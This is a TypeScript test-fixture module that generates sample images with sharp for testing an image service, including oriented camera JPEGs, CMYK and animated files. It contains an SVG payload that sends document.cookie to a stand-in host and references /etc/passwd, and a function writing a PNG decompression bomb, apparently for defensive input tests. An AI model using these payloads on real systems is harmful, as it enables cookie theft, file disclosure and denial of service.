// Test pictures, made with sharp at run time (the repository holds no binary fixtures and nothing is
// downloaded). A 24 MP picture takes a second or two to make; the decompression bomb is
// written once per test run into a temporary folder (see `writeBomb`).
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createDeflate } from 'node:zlib';
import sharp, { type OverlayOptions, type Sharp } from 'sharp';

export type Rgb = { r: number; g: number; b: number };

/** Deterministic pseudo-random numbers (a linear congruential generator). */
function random(seed: number): () => number {
  let s = seed >>> 0 || 1;
  return () => (s = (Math.imul(s, 1103515245) + 12345) >>> 0) / 0x100000000;
}

/** A grain tile (noise made once, small: sharp's gaussian noise costs ~0.2 µs a sample). */
async function grainTile(sigma: number, size: number): Promise<Buffer> {
  return sharp({ create: { width: size, height: size, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma } } })
    .png({ compressionLevel: 1 })
    .toBuffer();
}

export interface PhotoLikeOptions {
  seed?: number;
  /** Sensor-like grain at full resolution (averages away when downscaled); 0 for none. */
  grain?: number;
  /** Mid-scale texture (survives downscaling, like foliage or fabric); 0 for none. */
  texture?: number;
  /** Lit windows on the buildings: fine detail that survives downscaling (default true). */
  windows?: boolean;
}

/**
 * A photo-like picture: a sky gradient, a sun, a skyline of lit buildings and round shapes in front,
 * with texture and grain. Returned as a sharp pipeline (encode it as wanted).
 */
export async function photoLike(width: number, height: number, options: PhotoLikeOptions = {}): Promise<Sharp> {
  const W = width,
    H = height;
  const rnd = random(options.seed ?? 1);
  const shapes: string[] = [];
  for (let i = 0; i < 40; i++) {
    const x = rnd() * W,
      w = W * (0.02 + rnd() * 0.08),
      h = H * (0.1 + rnd() * 0.4);
    const c = `hsl(${Math.floor(rnd() * 360)},${20 + Math.floor(rnd() * 40)}%,${25 + Math.floor(rnd() * 40)}%)`;
    const rect = `x="${x.toFixed(0)}" y="${(H * 0.75 - h).toFixed(0)}" width="${w.toFixed(0)}" height="${h.toFixed(0)}"`;
    shapes.push(`<rect ${rect} fill="${c}"/>${options.windows === false ? '' : `<rect ${rect} fill="url(#win)" opacity="0.5"/>`}`);
  }
  for (let i = 0; i < 25; i++) {
    shapes.push(
      `<circle cx="${(rnd() * W).toFixed(0)}" cy="${(H * 0.75 + rnd() * H * 0.25).toFixed(0)}" r="${(H * (0.01 + rnd() * 0.05)).toFixed(0)}" fill="hsl(${Math.floor(rnd() * 360)},60%,45%)"/>`,
    );
  }
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${W}" height="${H}">
<defs><linearGradient id="sky" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#3b6fb0"/><stop offset="0.75" stop-color="#e9c79a"/></linearGradient>
<linearGradient id="ground" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#4a5a3a"/><stop offset="1" stop-color="#22281c"/></linearGradient>
<pattern id="win" width="${(W / 150).toFixed(1)}" height="${(H / 80).toFixed(1)}" patternUnits="userSpaceOnUse"><rect width="${(W / 300).toFixed(1)}" height="${(H / 200).toFixed(1)}" fill="#ffe9a8"/></pattern></defs>
<rect width="${W}" height="${H}" fill="url(#sky)"/><circle cx="${W * 0.8}" cy="${H * 0.2}" r="${H * 0.06}" fill="#fff6d0"/>
<rect y="${H * 0.75}" width="${W}" height="${H * 0.25}" fill="url(#ground)"/>${shapes.join('')}</svg>`;
  const scene = await sharp(Buffer.from(svg), { limitInputPixels: false }).removeAlpha().raw().toBuffer();
  const layers: OverlayOptions[] = [];
  const texture = options.texture ?? 20;
  if (texture > 0) {
    const tex = await sharp({
      create: { width: Math.ceil(W / 8), height: Math.ceil(H / 8), channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: texture } },
    })
      .resize(W, H, { kernel: 'cubic', fit: 'fill' })
      .raw()
      .toBuffer();
    layers.push({ input: tex, raw: { width: W, height: H, channels: 3 }, blend: 'soft-light' });
  }
  const grain = options.grain ?? 14;
  if (grain > 0) layers.push({ input: await grainTile(grain, Math.min(509, W, H)), tile: true, blend: 'soft-light' });
  const img = sharp(scene, { raw: { width: W, height: H, channels: 3 }, limitInputPixels: false });
  if (!layers.length) return img;
  // Composite, then read back as raw so the caller's pipeline starts from plain pixels.
  const flat = await img.composite(layers).removeAlpha().raw().toBuffer();
  return sharp(flat, { raw: { width: W, height: H, channels: 3 }, limitInputPixels: false });
}

export const RED: Rgb = { r: 220, g: 20, b: 30 };
export const GREEN: Rgb = { r: 20, g: 200, b: 40 };
export const BLUE: Rgb = { r: 30, g: 40, b: 210 };
export const GREY: Rgb = { r: 128, g: 128, b: 128 };

/**
 * 6000×4000 (24 MP) JPEG stored in landscape with EXIF orientation 6 (shown rotated 90° clockwise: a
 * 4000×6000 portrait), camera tags and a GPS position. A red block marks the stored top-left corner
 * (shown at the top right).
 */
export async function orientedCameraJpeg(): Promise<Buffer> {
  // Drawn at 1500×1000 and enlarged: the test needs the size, not the detail (and this takes ~0.3 s).
  const small = await (await photoLike(1500, 1000, { seed: 7, grain: 0, texture: 0 })).raw().toBuffer();
  const base = sharp(small, { raw: { width: 1500, height: 1000, channels: 3 } }).resize(6000, 4000, { kernel: 'cubic' });
  const enlarged = await base.raw().toBuffer();
  const marked = await sharp(enlarged, { raw: { width: 6000, height: 4000, channels: 3 } })
    .composite([{ input: { create: { width: 900, height: 600, channels: 3, background: RED } }, left: 0, top: 0 }])
    .removeAlpha()
    .raw()
    .toBuffer();
  return sharp(marked, { raw: { width: 6000, height: 4000, channels: 3 } })
    .withExif({
      IFD0: { Make: 'TestCam', Model: 'Model 1', DateTime: '2024:05:01 10:00:00' },
      IFD2: { DateTimeOriginal: '2024:05:01 10:00:00' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '24/1 51/1 36/1', GPSLongitudeRef: 'E', GPSLongitude: '67/1 0/1 36/1' },
    })
    .withMetadata({ orientation: 6 })
    .jpeg({ quality: 85 })
    .toBuffer();
}

/** A CMYK JPEG (1600×1067) of a photo-like scene. */
export async function cmykJpeg(): Promise<Buffer> {
  return (await photoLike(1600, 1067, { seed: 2, texture: 0 })).toColourspace('cmyk').jpeg({ quality: 85 }).toBuffer();
}

/** A 16-bit-per-channel PNG (1000×700). */
export async function png16(): Promise<Buffer> {
  return (await photoLike(1000, 700, { seed: 3, grain: 0 })).toColourspace('rgb16').png().toBuffer();
}

/** The sRGB colour (200, 100, 50) stored in Display P3 with its ICC profile (1400×900 PNG). */
export const P3_SOURCE_COLOUR: Rgb = { r: 200, g: 100, b: 50 };
export async function p3Png(): Promise<Buffer> {
  return sharp({ create: { width: 1400, height: 900, channels: 3, background: P3_SOURCE_COLOUR } })
    .withIccProfile('p3')
    .png()
    .toBuffer();
}

/** An animated GIF (3 frames of 400×300: red, green, blue). */
export async function animatedGif(): Promise<Buffer> {
  const frame = (c: Rgb) => ({ input: { create: { width: 400, height: 300, channels: 3 as const, background: c } } });
  const strip = await sharp({ create: { width: 400, height: 900, channels: 3, background: GREY } })
    .composite([
      { ...frame(RED), top: 0, left: 0 },
      { ...frame(GREEN), top: 300, left: 0 },
      { ...frame(BLUE), top: 600, left: 0 },
    ])
    .removeAlpha()
    .raw()
    .toBuffer();
  return sharp(strip, { raw: { width: 400, height: 900, channels: 3, pageHeight: 300 } })
    .gif({ delay: [200, 200, 200], loop: 0 })
    .toBuffer();
}

/** A JPEG cut off halfway through its pixel data. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await (await photoLike(1600, 1000, { seed: 4 })).jpeg({ quality: 85 }).toBuffer();
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

export const SVG_WITH_SCRIPT = Buffer.from(
  `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><script>fetch('https://evil.example/'+document.cookie)</script><rect width="800" height="600" fill="red"/><image href="file:///etc/passwd"/></svg>`,
);

export const HTML_PAGE = Buffer.from(
  `<!DOCTYPE html>\n<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested picture was not found.</p></body></html>`,
);

/** A plain PNG (1200×800) to send with a declared type of image/jpeg. */
export async function plainPng(): Promise<Buffer> {
  return (await photoLike(1200, 800, { seed: 5, grain: 0 })).png().toBuffer();
}

/** A tiny 300×200 JPEG. */
export async function tinyJpeg(): Promise<Buffer> {
  return (await photoLike(300, 200, { seed: 6, grain: 0 })).jpeg({ quality: 85 }).toBuffer();
}

/**
 * A 4000×3000 grey JPEG with a green cross through the point of interest: a vertical band at poi.x and a
 * horizontal band at poi.y, each 200 px wide. A crop centred on the poi along its free axis (x for a
 * square crop of this landscape picture, y for the wide ones) has a green centre pixel; a crop centred
 * on the picture's centre has a grey one.
 */
export const POI = { x: 0.4, y: 0.45 };
export const POI_SIZE = { width: 4000, height: 3000, band: 200 };
export async function poiJpeg(): Promise<Buffer> {
  const { width: W, height: H, band } = POI_SIZE;
  const g = `rgb(${GREEN.r},${GREEN.g},${GREEN.b})`;
  const svg =
    `<svg xmlns="http://www.w3.org/2000/svg" width="${W}" height="${H}"><rect width="${W}" height="${H}" fill="rgb(128,128,128)"/>` +
    `<rect x="${POI.x * W - band / 2}" y="0" width="${band}" height="${H}" fill="${g}"/><rect x="0" y="${POI.y * H - band / 2}" width="${W}" height="${band}" fill="${g}"/></svg>`;
  return sharp(Buffer.from(svg)).removeAlpha().jpeg({ quality: 90 }).toBuffer();
}

/**
 * A 20000×20000 8-bit greyscale PNG (a decompression bomb: ~430 KB on disk, 400 MP, 1.6 GB as RGBA).
 * Written with zlib directly: rows of one grey value, every row after the first "same as above" (PNG
 * filter Up), so deflate shrinks 400 MB to ~430 KB in about a second (sharp takes ~6 s for the same).
 */
export async function writeBomb(path: string, size = 20000): Promise<void> {
  const crcTable = new Int32Array(256).map((_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c;
  });
  const crc = (buf: Buffer) => {
    let c = -1;
    for (const byte of buf) c = crcTable[(c ^ byte) & 0xff]! ^ (c >>> 8);
    return (c ^ -1) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([len, body, sum]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  const first = Buffer.alloc(size + 1, 0x80);
  first[0] = 0; // filter None, grey 128
  deflate.write(first);
  const rowsPerBlock = 100;
  const block = Buffer.alloc((size + 1) * rowsPerBlock);
  for (let i = 0; i < rowsPerBlock; i++) block[i * (size + 1)] = 2; // filter Up, all deltas 0
  for (let row = 1; row < size; row += rowsPerBlock) {
    const n = Math.min(rowsPerBlock, size - row);
    deflate.write(n === rowsPerBlock ? block : block.subarray(0, n * (size + 1)));
  }
  deflate.end();
  await done;
  const png = Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', Buffer.concat(parts)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
  writeFileSync(path, png);
}

const made: string[] = [];
/** A fresh temporary folder, removed by `removeTempDirs`. */
export function tempDir(name: string): string {
  const d = mkdtempSync(join(tmpdir(), `dateline-pictures-${name}-`));
  made.push(d);
  return d;
}
export function removeTempDirs(): void {
  for (const d of made.splice(0)) rmSync(d, { recursive: true, force: true });
}

/** The tags of an EXIF block (`Exif\0\0` + TIFF), as `ifd0.8298`-style keys (hex tag numbers) to values. */
export function exifTags(exif: Buffer): Record<string, string | number> {
  const t = exif.subarray(0, 6).toString('latin1') === 'Exif\0\0' ? exif.subarray(6) : exif;
  const le = t[0] === 0x49;
  const u16 = (p: number) => (le ? t.readUInt16LE(p) : t.readUInt16BE(p));
  const u32 = (p: number) => (le ? t.readUInt32LE(p) : t.readUInt32BE(p));
  const out: Record<string, string | number> = {};
  const sizes: Record<number, number> = { 1: 1, 2: 1, 3: 2, 4: 4, 5: 8, 7: 1, 9: 4, 10: 8 };
  const walk = (off: number, name: string, depth: number) => {
    if (!off || off + 2 > t.length || depth > 4) return;
    const n = u16(off);
    for (let i = 0; i < n; i++) {
      const e = off + 2 + i * 12;
      if (e + 12 > t.length) break;
      const tag = u16(e),
        type = u16(e + 2),
        count = u32(e + 4);
      const size = (sizes[type] ?? 1) * count;
      const vo = size <= 4 ? e + 8 : u32(e + 8);
      out[`${name}.${tag.toString(16)}`] =
        type === 2
          ? t
              .subarray(vo, vo + count)
              .toString('latin1')
              .replace(/\0+$/, '')
          : type === 3
            ? u16(vo)
            : type === 4
              ? u32(vo)
              : `type ${type} × ${count}`;
      if (tag === 0x8769) walk(u32(e + 8), 'exif', depth + 1);
      if (tag === 0x8825) walk(u32(e + 8), 'gps', depth + 1);
    }
    if (name === 'ifd0') walk(u32(off + 2 + n * 12), 'ifd1', depth + 1);
  };
  walk(u32(4), 'ifd0', 0);
  return out;
}

/** Decoded pixel (r, g, b) at x, y of an encoded image. */
export async function pixelAt(image: Buffer | string, x: number, y: number): Promise<Rgb> {
  const { data } = await sharp(image)
    .extract({ left: x, top: y, width: 1, height: 1 })
    .removeAlpha()
    .toColourspace('srgb')
    .raw()
    .toBuffer({ resolveWithObject: true });
  return { r: data[0]!, g: data[1]!, b: data[2]! };
}

export const near = (a: Rgb, b: Rgb, tolerance = 24) =>
  Math.abs(a.r - b.r) <= tolerance && Math.abs(a.g - b.g) <= tolerance && Math.abs(a.b - b.b) <= tolerance;
